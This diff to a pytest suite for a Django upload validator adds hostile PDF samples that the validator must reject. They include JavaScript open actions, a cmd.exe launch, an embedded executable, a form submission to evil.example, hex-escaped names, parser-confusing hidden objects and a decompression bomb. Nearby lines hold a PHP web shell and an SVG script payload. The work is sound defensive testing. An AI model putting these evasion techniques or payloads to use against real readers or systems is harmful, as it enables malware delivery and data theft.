@@ -9,13 +9,16 @@ import struct
 import zipfile
 import zlib
 
+import pypdf
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import translation
 from PIL import Image, ImageCms, ImageDraw, ImageFile
 from PIL.PngImagePlugin import PngInfo
 
+from activities import pdfcheck
 from activities.uploads import MAX_PIXELS, ProcessedUpload, UploadRejected, display_name, process_upload
+from tests.pdfs import CATALOG, JS_ACTION, PAGE, PAGES, build_pdf, one_page
 
 MB = 1024 * 1024
 LIMIT = 10 * MB
@@ -30,6 +33,8 @@ PHP = b"<?php system($_GET['c']); ?>"
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
 NOT_ACCEPTED = "This kind of file is not accepted"
 DAMAGED_PHOTO = "This photo could not be read"
+ACTIVE_PDF = "This PDF contains active content"
+UNCHECKED_PDF = "This PDF could not be checked"
 TOO_LARGE = "Image is too large"
 
 
@@ -198,6 +203,140 @@ def assert_clean_jpeg(result, *payloads):
     assert (result.width, result.height) == Image.open(io.BytesIO(result.content)).size
 
 
+# PDFs with active content, each one a real document in which a PDF reader finds it
+# (test_active_pdfs_are_what_they_claim reads them with pypdf).
+
+
+def hidden_in_stream():
+    """The cross-reference points into another object's stream data."""
+    hidden = b" 5 0 obj\n" + JS_ACTION + b"\nendobj\n"
+    stream = b"<</Length %d>>\nstream\n%s\nendstream" % (len(hidden), hidden)
+    return one_page(b"/OpenAction 5 0 R", extra={4: stream}, hidden=[5])
+
+
+def hidden_in_string():
+    return one_page(b"/OpenAction 5 0 R", extra={4: b"<</Title( 5 0 obj " + JS_ACTION + b" endobj)>>"}, hidden=[5])
+
+
+def hidden_in_comment():
+    return one_page(b"/OpenAction 5 0 R", extra={4: b"<<>>\n% 5 0 obj " + JS_ACTION + b" endobj"}, hidden=[5])
+
+
+def hidden_in_object_stream_string():
+    """The table of the object stream points into a string of another packed object."""
+    objects = {1: CATALOG % b"/OpenAction 5 0 R", 2: PAGES, 3: PAGE % b"", 4: b"<</T(" + JS_ACTION + b")>>"}
+    data = build_pdf({**objects, 5: b"<<>>"}, packed=[1, 4, 5], filters=())
+    # Uncompressed, so the table can be rewritten in place: object 5 starts inside 4's string.
+    table_start = data.index(b"stream\n", data.index(b"/ObjStm")) + len(b"stream\n")
+    table = data[table_start : data.index(b"\n", table_start)]
+    numbers = table.split()
+    inside = int(numbers[3]) + len(b"<</T(")
+    new_table = b" ".join([*numbers[:5], str(inside).encode()]).ljust(len(table))
+    return data[:table_start] + new_table + data[table_start + len(table) :]
+
+
+def packed(catalog, extra, **options):
+    return one_page(catalog, extra=extra, packed=[1, *extra], **options)
+
+
+def with_filter(data, name):
+    """Names another filter on the object stream, keeping every offset in place."""
+    assert data.count(b"/Filter[/FlateDecode]") == 1
+    return data.replace(b"/Filter[/FlateDecode]", b"/Filter[/%s]" % name.ljust(11).encode())
+
+
+LINK = b"<</Type/Annot/Subtype/Link/Rect[72 700 200 720]/A<</S/URI/URI(https://contoh.sch.id/JS/AA/modul.js)>>>>"
+
+
+def harmless_pdf():
+    """What plain documents hold that looks like active content and is not: an open
+    action that only shows page 1, a link whose address has /JS/ in it, page content
+    and binary data with names and brackets in them."""
+    content = b"BT /AA 12 Tf 72 720 Td (Belajar /JavaScript dan /JS) Tj ET /JS gs"
+    binary = bytes(range(256)) * 4 + b"(/JS (%\n stream\n<< /AA >>"
+    return one_page(
+        b"/OpenAction[3 0 R/Fit]",
+        page=b"/Contents 4 0 R/Annots[5 0 R]/Resources<</XObject<</Im0 6 0 R>>>>",
+        extra={
+            4: b"<</Length %d>>\nstream\n%s\nendstream" % (len(content), content),
+            5: LINK,
+            6: b"<</Type/XObject/Subtype/Image/Width 32/Height 32/ColorSpace/DeviceGray/BitsPerComponent 8"
+            b"/Length %d>>\nstream\n%s\nendstream" % (len(binary), binary),
+        },
+    )
+
+
+@functools.cache
+def _weasyprint_pdf():
+    from weasyprint import HTML
+
+    pages = "".join(f"<h1>Pertemuan {n}</h1><p>Membaca nyaring, lalu diskusi.</p>" for n in range(1, 30))
+    html = f'<p><a href="https://contoh.sch.id/JS/">Tautan</a></p>{pages}'
+    return HTML(string=html).write_pdf()
+
+
+def weasyprint_pdf():
+    return _weasyprint_pdf()
+
+
+def pillow_pdf():
+    return encoded(Image.new("RGB", (300, 400), "white"), "PDF")
+
+
+ACTIVE_PDFS = {
+    "pdf-open-action-javascript": lambda: one_page(b"/OpenAction 4 0 R", extra={4: JS_ACTION}),
+    "pdf-document-javascript": lambda: one_page(
+        b"/Names<</JavaScript 4 0 R>>", extra={4: b"<</Names[(init) 5 0 R]>>", 5: JS_ACTION}
+    ),
+    "pdf-launch": lambda: one_page(b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>"),
+    "pdf-embedded-file": lambda: one_page(
+        b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
+        extra={
+            4: b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
+            5: b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream",
+        },
+    ),
+    "pdf-rich-media": lambda: one_page(
+        page=b"/Annots[4 0 R]", extra={4: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]>>"}
+    ),
+    "pdf-xfa-form": lambda: one_page(
+        b"/AcroForm<</Fields[]/XFA 4 0 R>>", extra={4: b"<</Length 0>>\nstream\n\nendstream"}
+    ),
+    "pdf-page-additional-action": lambda: one_page(page=b"/AA<</O 4 0 R>>", extra={4: JS_ACTION}),
+    "pdf-go-to-embedded": lambda: one_page(b"/OpenAction<</S/GoToE/T<</R/C/N(a.pdf)>>>>"),
+    "pdf-submit-form": lambda: one_page(b"/OpenAction<</S/SubmitForm/F(https://evil.example/)>>"),
+    "pdf-hex-escaped-names": lambda: one_page(
+        b"/OpenAction 4 0 R", extra={4: b"<</S/J#61vaScript/#4A#53(app.alert\\(1\\))>>"}
+    ),
+    "pdf-hex-escaped-additional-action": lambda: one_page(page=b"/#41A<</O 4 0 R>>", extra={4: JS_ACTION}),
+    "pdf-javascript-in-object-stream": lambda: packed(b"/OpenAction 4 0 R", {4: JS_ACTION}),
+    "pdf-escaped-names-in-object-stream": lambda: packed(
+        b"/OpenAction 4 0 R", {4: b"<</S/JavaScr#69pt/J#53(app.alert\\(1\\))>>"}
+    ),
+    "pdf-object-stream-hex-then-flate": lambda: packed(
+        b"/OpenAction 4 0 R", {4: JS_ACTION}, filters=("ASCIIHexDecode", "FlateDecode")
+    ),
+    "pdf-object-stream-without-type": lambda: packed(b"/OpenAction 4 0 R", {4: JS_ACTION}, objstm_dict=b""),
+}
+
+# Active content a reader finds through the cross-reference table, where the file does
+# not look like objects: built to be read in two ways, so not accepted.
+HIDDEN_PDFS = {
+    "pdf-object-hidden-in-stream-data": hidden_in_stream,
+    "pdf-object-hidden-in-string": hidden_in_string,
+    "pdf-object-hidden-in-comment": hidden_in_comment,
+    "pdf-object-hidden-in-string-of-object-stream": hidden_in_object_stream_string,
+}
+
+UNCHECKED_PDFS = {
+    **HIDDEN_PDFS,
+    "pdf-object-stream-unknown-filter": lambda: with_filter(packed(b"", {4: b"<<>>"}), "LZWDecode"),
+    # The deflated data of the object stream starts with a broken header.
+    "pdf-object-stream-broken": lambda: packed(b"", {4: b"<<>>"}).replace(b"stream\nx", b"stream\nX", 1),
+    "pdf-object-stream-inflates-to-100-mb": lambda: packed(b"", {4: b"<<>>"}, pad=100 * MB),
+}
+
+
 # The upload corpus: what people (and attackers) will send. Each case is rejected with a
 # message, or neutralised: what is stored is clean and free of the payload.
 
@@ -310,6 +449,10 @@ CORPUS = [
         id="docm-with-macros",
     ),
     pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 200, "a.docx", Rejected("could not be read"), id="broken-zip"),
+    # PDFs with active content: scripts, launched programs, embedded files, automatic actions.
+    *[pytest.param(make, "materi.pdf", Rejected(ACTIVE_PDF), id=case) for case, make in ACTIVE_PDFS.items()],
+    # PDFs that cannot be checked within the limits, or only by guessing.
+    *[pytest.param(make, "materi.pdf", Rejected(UNCHECKED_PDF), id=case) for case, make in UNCHECKED_PDFS.items()],
     # Names: accepted, but what is shown and offered for download is a plain, honest name.
     pytest.param(lambda: jpeg(), "../../etc/passwd.jpg", clean_photo(name="passwd.jpg"), id="path-traversal-name"),
     pytest.param(
@@ -589,6 +732,16 @@ def test_photo_result_is_self_consistent():
         pytest.param(lambda: OLE2, "materi.ppt", ".ppt", "application/vnd.ms-powerpoint", id="ppt"),
         pytest.param(lambda: OLE2, "terkunci.xlsx", ".xls", "application/vnd.ms-excel", id="encrypted-xlsx-is-ole"),
         pytest.param(lambda: ooxml("word/document.xml"), "rpp.zip", ".docx", DOCX, id="docx-named-zip"),
+        pytest.param(harmless_pdf, "modul.pdf", ".pdf", "application/pdf", id="pdf-that-only-looks-active"),
+        pytest.param(
+            lambda: packed(b"/OpenAction[3 0 R/Fit]", {4: LINK}),
+            "modul.pdf",
+            ".pdf",
+            "application/pdf",
+            id="pdf-packed",
+        ),
+        pytest.param(weasyprint_pdf, "rpp.pdf", ".pdf", "application/pdf", id="pdf-from-weasyprint"),
+        pytest.param(pillow_pdf, "pindaian.pdf", ".pdf", "application/pdf", id="pdf-from-pillow"),
     ],
 )
 def test_documents_are_kept_byte_for_byte(make, name, extension, content_type):
@@ -598,6 +751,88 @@ def test_documents_are_kept_byte_for_byte(make, name, extension, content_type):
     assert result.content == data
     assert (result.thumbnail, result.width, result.height) == (None, None, None)
     assert result.original_name.endswith(extension) or result.original_name.lower().endswith(extension)
+
+
+# PDFs: active content is refused, within a bounded effort
+
+
+ACTIVE_NAMES = {"/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/RichMedia", "/XFA", "/AA", "/GoToE", "/SubmitForm"}
+
+
+def names_in(value, seen, found):
+    if id(value) in seen:
+        return
+    seen.add(id(value))
+    if isinstance(value, pypdf.generic.IndirectObject):
+        names_in(value.get_object(), seen, found)
+    elif isinstance(value, dict):
+        for key, item in value.items():
+            found.add(str(key))
+            names_in(item, seen, found)
+    elif isinstance(value, list):
+        for item in value:
+            names_in(item, seen, found)
+    elif isinstance(value, pypdf.generic.NameObject):
+        found.add(str(value))
+
+
+# pypdf insists on /Type/ObjStm; readers that locate object streams by /N and /First do not.
+@pytest.mark.parametrize("case", sorted({**ACTIVE_PDFS, **HIDDEN_PDFS}.keys() - {"pdf-object-stream-without-type"}))
+def test_active_pdfs_are_what_they_claim(case):
+    """A PDF reader, following the document from its catalog, meets the active content:
+    the corpus holds real documents, not bytes the check happens to look for."""
+    reader = pypdf.PdfReader(io.BytesIO({**ACTIVE_PDFS, **HIDDEN_PDFS}[case]()))
+    found = set()
+    names_in(reader.trailer["/Root"], set(), found)
+    assert found & ACTIVE_NAMES
+
+
+def test_harmless_pdfs_open_in_a_reader():
+    for make in (harmless_pdf, weasyprint_pdf, pillow_pdf):
+        assert len(pypdf.PdfReader(io.BytesIO(make())).pages) >= 1
+
+
+def test_object_streams_are_inflated_only_up_to_the_budget(monkeypatch):
+    inflated = []
+    real = zlib.decompressobj
+
+    class Counting:
+        def __init__(self, *args):
+            self.inner = real(*args)
+
+        def decompress(self, data, max_length=0):
+            out = self.inner.decompress(data, max_length)
+            inflated.append(len(out))
+            return out
+
+        def __getattr__(self, name):
+            return getattr(self.inner, name)
+
+    monkeypatch.setattr(pdfcheck.zlib, "decompressobj", Counting)
+    with pytest.raises(UploadRejected, match=UNCHECKED_PDF):
+        upload(packed(b"", {4: b"<<>>"}, pad=100 * MB), "bom.pdf")
+    assert 0 < sum(inflated) <= pdfcheck.MAX_INFLATED + 1
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        pytest.param(b"<<>>" * 2_000_000, id="two-million-dictionaries"),
+        pytest.param(b"(" * 4_000_000, id="four-million-nested-strings"),
+        pytest.param(b"<<" * 4_000_000, id="four-million-levels-deep"),
+        pytest.param(b"%\n" * 4_000_000, id="four-million-comments"),
+    ],
+)
+def test_a_pdf_made_of_millions_of_parts_is_refused(body):
+    # Each part costs the check a step: past the budget it gives up instead of working on.
+    with pytest.raises(UploadRejected, match=UNCHECKED_PDF):
+        upload(b"%PDF-1.7\n" + body, "banyak.pdf")
+
+
+def test_a_teachers_pdf_about_javascript_is_accepted():
+    # Words in strings and page content are text, not active content.
+    result = upload(one_page(b"/Lang(id)/PageLabels<</Nums[0<</P(JavaScript /JS /AA)>>]>>"), "Modul JavaScript.pdf")
+    assert result.extension == ".pdf"
 
 
 def test_upload_is_read_from_the_start():
